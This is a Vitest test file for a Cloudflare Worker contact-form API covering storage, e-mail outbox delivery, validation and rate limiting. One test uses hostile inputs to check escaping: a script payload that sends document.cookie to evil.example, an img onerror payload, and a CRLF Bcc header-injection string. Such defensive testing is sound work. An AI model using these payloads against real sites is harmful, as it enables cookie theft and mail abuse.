import { env } from "cloudflare:workers";
import { afterEach, describe, expect, it, vi } from "vitest";
import { startOfRateLimitWindow } from "./helpers";
import {
  callWorker,
  countSubmissionsFrom,
  envWith,
  failingMailer,
  fakeMailer,
  outboxRowsForSubmission,
  postJson,
  submissionRow,
  uniqueEmail,
  uniqueIp,
} from "./outbox-fakes";
import { aContactMessage, deliverLater, expectRefused, storedId } from "./submission-fixtures";

afterEach(() => vi.restoreAllMocks());

describe("POST /api/contact", () => {
  it("stores the message, queues its e-mail to the shop and answers 201 with the id", async () => {
    const mailer = fakeMailer();
    const body = aContactMessage();
    const id = await storedId(await postJson("/api/contact", body, { env: envWith(mailer) }));

    const submission = await submissionRow(id);
    expect(submission).toMatchObject({ kind: "contact", name: "Ana Lima", email: body.email });
    expect(JSON.parse(submission!.payload)).toEqual(body);

    const [email] = await outboxRowsForSubmission(id);
    expect(email).toMatchObject({ kind: "contact", recipient: env.SHOP_EMAIL, status: "sent", attempts: 1 });

    expect(mailer.sent).toHaveLength(1);
    const sent = mailer.sent[0]!;
    expect(sent).toMatchObject({
      to: env.SHOP_EMAIL,
      from: { name: "Squeeze", email: "no-reply@squeeze-juice.example" },
      replyTo: body.email,
      subject: "Contact message from Ana Lima",
    });
    expect(sent.html).toContain("Do you cater office parties?<br>About 30 people.");
    expect(sent.html).toContain(`href="mailto:${body.email}"`);
    expect(sent.html).toContain('href="tel:+17145550100"');
    expect(sent.text).toContain(`Email: ${body.email}`);
    expect(sent.text).toContain("Phone: +1 714 555 0100");
    expect(sent.text).toContain("Do you cater office parties?\nAbout 30 people.");
  });

  it("has stored the submission and its e-mail before the transport is called", async () => {
    const body = aContactMessage();
    let seenDuringSend: { submissions: number; emailStatus?: string } | undefined;
    const mailer = fakeMailer(async () => {
      const [row] = await env.DB.prepare(
        "SELECT status FROM email_outbox WHERE submission_id = (SELECT id FROM form_submissions WHERE email = ?)",
      )
        .bind(body.email)
        .all<{ status: string }>()
        .then((result) => result.results);
      seenDuringSend = { submissions: await countSubmissionsFrom(body.email), emailStatus: row?.status };
    });
    const response = await postJson("/api/contact", body, { env: envWith(mailer) });
    expect(response.status).toBe(201);
    expect(seenDuringSend).toEqual({ submissions: 1, emailStatus: "sending" });
  });

  it("keeps the message when the mail binding fails, and a later cron run delivers it", async () => {
    const logged = vi.spyOn(console, "error").mockImplementation(() => {});
    const body = aContactMessage();
    const response = await postJson("/api/contact", body, { env: envWith(failingMailer("binding exploded")) });

    // The visitor's message is safe, so the answer is a success.
    const id = await storedId(response);
    expect(await submissionRow(id)).toMatchObject({ kind: "contact", name: "Ana Lima", email: body.email });
    const [queued] = await outboxRowsForSubmission(id);
    expect(queued).toMatchObject({ status: "queued", attempts: 1, lastError: "binding exploded", sentAt: null });
    expect(logged).toHaveBeenCalled();

    const delivered = await deliverLater(queued!.id, body.email);
    expect(delivered).toHaveLength(1);
    expect(delivered[0]?.subject).toBe("Contact message from Ana Lima");
    const [sent] = await outboxRowsForSubmission(id);
    expect(sent).toMatchObject({ status: "sent", attempts: 2 });
  });

  it("escapes hostile input in the e-mail and keeps header-injection attempts out of the subject", async () => {
    const mailer = fakeMailer();
    const response = await postJson(
      "/api/contact",
      aContactMessage({
        username: "Eve <script>alert(1)</script>\r\nBcc: everyone@example.com",
        message: '<script>fetch("https://evil.example/"+document.cookie)</script><img src=x onerror=alert(1)>',
      }),
      { env: envWith(mailer) },
    );
    expect(response.status).toBe(201);
    const sent = mailer.sent[0]!;
    expect(sent.subject).toBe("Contact message from Eve <script>alert(1)</script> Bcc: everyone@example.com");
    expect(sent.subject).not.toMatch(/[\r\n]/);
    expect(sent.html).not.toContain("<script>");
    expect(sent.html).not.toContain("<img");
    expect(sent.html).toContain(
      "&lt;script&gt;fetch(&quot;https://evil.example/&quot;+document.cookie)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;",
    );
    expect(sent.html).toContain("Eve &lt;script&gt;alert(1)&lt;/script&gt;");
  });

  describe("refuses bad input with a message naming the problem, and stores nothing", () => {
    const cases: Array<{ name: string; body: Record<string, unknown>; field: string; message: string; code?: string }> =
      [
        {
          name: "missing name",
          body: aContactMessage({ username: "  " }),
          field: "username",
          message: "username: Name is required",
        },
        {
          name: "missing email",
          body: aContactMessage({ email: "" }),
          field: "email",
          message: "email: Email is required",
        },
        {
          name: "bad email",
          body: aContactMessage({ email: "ana@" }),
          field: "email",
          message: "email: Invalid email format",
        },
        {
          name: "missing phone",
          body: aContactMessage({ phone: "" }),
          field: "phone",
          message: "phone: Phone number is required",
        },
        {
          name: "short phone",
          body: aContactMessage({ phone: "555 0100" }),
          field: "phone",
          message: "phone: Phone number must be at least 10 digits",
        },
        {
          name: "missing message",
          body: aContactMessage({ message: "" }),
          field: "message",
          message: "message: Message is required",
        },
        {
          name: "message too long",
          body: aContactMessage({ message: "x".repeat(5001) }),
          field: "message",
          message: "message: Message can be at most 5000 characters",
        },
        {
          name: "wrong type",
          body: aContactMessage({ phone: 7145550100 }),
          field: "phone",
          message: "phone: Phone number is required",
        },
        {
          name: "unknown field",
          body: aContactMessage({ isAdmin: true }),
          field: "isAdmin",
          message: "Unknown field: isAdmin",
          code: "unknown_field",
        },
      ];
    for (const { name, body, code, field, message } of cases) {
      it(name, () => expectRefused("/api/contact", body, 400, { code: code ?? "invalid_input", field, message }));
    }

    it("malformed JSON", () =>
      expectRefused("/api/contact", '{"username": "Ana",', 400, {
        code: "invalid_json",
        message: "The request body is not valid JSON.",
      }));

    it("a body that is not an object", async () => {
      const response = await postJson("/api/contact", "[1,2]", { env: envWith(fakeMailer()) });
      expect(response.status).toBe(400);
      expect(await response.json()).toMatchObject({ error: { code: "invalid_input", field: "body" } });
    });

    it("a content type other than JSON", () =>
      expectRefused(
        "/api/contact",
        "username=Ana",
        415,
        {
          code: "unsupported_media_type",
          message: "Content-Type must be application/json",
        },
        { "Content-Type": "application/x-www-form-urlencoded" },
      ));

    it("an oversized body", () =>
      expectRefused("/api/contact", aContactMessage({ message: "x".repeat(20 * 1024) }), 413, {
        code: "payload_too_large",
        message: "The request body is larger than 16 KB.",
      }));

    it("an oversized body sent without Content-Length (streamed)", async () => {
      const chunk = new TextEncoder().encode(JSON.stringify(aContactMessage({ message: "y".repeat(20 * 1024) })));
      const stream = new ReadableStream({
        start(controller) {
          controller.enqueue(chunk);
          controller.close();
        },
      });
      const response = await callWorker(
        "/api/contact",
        {
          method: "POST",
          headers: { "Content-Type": "application/json", "CF-Connecting-IP": uniqueIp() },
          body: stream,
          // @ts-expect-error -- workerd needs duplex for a streamed request body
          duplex: "half",
        },
        envWith(fakeMailer()),
      );
      expect(response.status).toBe(413);
    });
  });

  it("limits a client to 5 messages a minute: the burst beyond gets 429 and stores nothing", async () => {
    await startOfRateLimitWindow();
    const ip = uniqueIp();
    const email = uniqueEmail("burst");
    const mailer = fakeMailer();
    const statuses: number[] = [];
    for (let index = 0; index < 8; index += 1) {
      const response = await postJson("/api/contact", aContactMessage({ email, message: `Spam ${index}` }), {
        env: envWith(mailer),
        ip,
      });
      statuses.push(response.status);
      if (response.status === 429) {
        expect(response.headers.get("Retry-After")).toBe("60");
        expect(await response.json()).toMatchObject({ error: { code: "rate_limited" } });
      }
    }
    expect(statuses).toEqual([201, 201, 201, 201, 201, 429, 429, 429]);
    expect(await countSubmissionsFrom(email)).toBe(5);
    expect(mailer.sent).toHaveLength(5);

    // Another client is not affected.
    const other = await postJson("/api/contact", aContactMessage(), { env: envWith(mailer), ip: uniqueIp() });
    expect(other.status).toBe(201);
  });
});
